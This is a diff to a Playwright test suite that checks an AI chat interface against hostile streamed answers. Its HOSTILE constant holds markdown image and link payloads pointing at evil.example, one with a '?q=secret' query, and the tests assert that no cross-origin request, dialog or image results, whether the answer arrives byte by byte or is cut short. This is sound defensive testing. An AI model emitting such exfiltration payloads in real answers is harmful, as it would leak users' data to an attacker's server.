@@ -1,6 +1,6 @@
-import { expect, test } from '@playwright/test';
+import { expect, type Page, test } from '@playwright/test';
 import { ChatPage } from '../pages/chat-page.ts';
-import { answerWith } from './scripted-answers.ts';
+import { answerWith, holdAnswers } from './scripted-answers.ts';
 
 const HOSTILE = [
   '![leak](http://evil.example/a.png?q=secret) ',
@@ -14,20 +14,40 @@ const HOSTILE = [
   '|a|\n|-|\n|![t](http://evil.example/o.png)|\n\n[evil.pdf#page=1](http://evil.example/p)',
 ].join('');
 
-/** Every prefix that a stream could have reached; the text is ASCII, so these are the cuts at every byte. */
-const PREFIXES = Array.from(HOSTILE, (_, at) => HOSTILE.slice(0, at + 1));
+/** Some answers that were cut short; `answer-text.test.tsx` renders those of every length. */
+const PREFIXES = Array.from({ length: 47 }, (_, at) => HOSTILE.slice(0, 17 * (at + 1)));
 
-test('an answer that means harm makes no request, at whatever point it is cut', async ({ page, baseURL }) => {
-  test.setTimeout(300_000); // one question for each byte
-  const elsewhere: string[] = [];
+/** What a page must never do: the requests to other origins and the dialogs that it causes from now on. */
+function watchForHarm(page: Page, baseURL: string | undefined): string[] {
+  const harm: string[] = [];
   page.on('request', (request) => {
-    if (new URL(request.url()).origin !== baseURL) elsewhere.push(request.url());
+    if (new URL(request.url()).origin !== baseURL) harm.push(request.url());
   });
-  const dialogs: string[] = [];
   page.on('dialog', (dialog) => {
-    dialogs.push(dialog.message());
+    harm.push(dialog.message());
     void dialog.dismiss();
   });
+  return harm;
+}
+
+test('a hostile answer makes no request while it arrives byte by byte', async ({ page, baseURL }) => {
+  const harm = watchForHarm(page, baseURL);
+  const answer = await holdAnswers(page);
+  const chat = new ChatPage(page);
+  await chat.open();
+  await chat.question.fill('What is the leave policy?');
+  await chat.question.press('Enter');
+  for (const byte of HOSTILE) await answer.say(byte);
+  await answer.end();
+  await chat.send.waitFor();
+  await expect(chat.conversation).toContainText('evil.pdf#page=1');
+  await page.waitForLoadState('networkidle');
+  expect(harm).toEqual([]);
+  await expect(chat.conversation.getByRole('img')).toHaveCount(0);
+});
+
+test('a hostile answer makes no request where it was cut short', async ({ page, baseURL }) => {
+  const harm = watchForHarm(page, baseURL);
   await answerWith(page, ...PREFIXES.map((text) => ({ text })));
   const chat = new ChatPage(page);
   await chat.open();
@@ -36,8 +56,7 @@ test('an answer that means harm makes no request, at whatever point it is cut', 
     if (at % 10 === 9) await chat.newChat.click();
   }
   await page.waitForLoadState('networkidle');
-  expect(elsewhere).toEqual([]);
-  expect(dialogs).toEqual([]);
+  expect(harm).toEqual([]);
   await expect(chat.conversation.getByRole('img')).toHaveCount(0);
 });
 
